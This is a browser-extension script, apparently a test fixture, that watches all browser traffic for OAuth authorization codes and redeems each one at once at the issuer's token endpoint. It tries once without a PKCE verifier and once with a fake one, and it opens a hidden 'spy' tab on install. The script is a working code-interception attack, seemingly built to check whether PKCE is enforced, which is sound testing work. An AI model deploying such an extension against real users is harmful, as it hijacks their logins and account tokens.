/**
 * Watches every request of the browser for an authorization code, and redeems what it sees at once. A
 * page of its own shows itself, so that a test can look through its eyes.
 */

const api = globalThis.browser ?? chrome

/** What was seen and tried, for the page. */
const seen = { codes: [], answers: [] }

async function redeem(url) {
  const { origin, pathname, searchParams } = new URL(url)
  const body = new URLSearchParams({
    grant_type: 'authorization_code',
    client_id: 'cloud-gaming',
    code: searchParams.get('code'),
    redirect_uri: origin + pathname,
  })
  for (const verifier of [undefined, 'x'.repeat(43)]) {
    if (verifier) body.set('code_verifier', verifier)
    const answer = await fetch(`${searchParams.get('iss')}/token`, { method: 'POST', body })
    seen.answers.push({ status: answer.status, body: await answer.text() })
  }
}

api.webRequest.onBeforeRequest.addListener(
  ({ url }) => {
    if (!/[?&]code=/.test(url)) return
    seen.codes.push(url)
    redeem(url).catch((error) => seen.answers.push({ status: 0, body: String(error) }))
  },
  { urls: ['<all_urls>'] },
)

api.runtime.onMessage.addListener((_message, _sender, answer) => {
  answer(seen)
})

api.runtime.onInstalled.addListener(() => {
  api.tabs.create({ url: api.runtime.getURL('spy.html'), active: false })
})
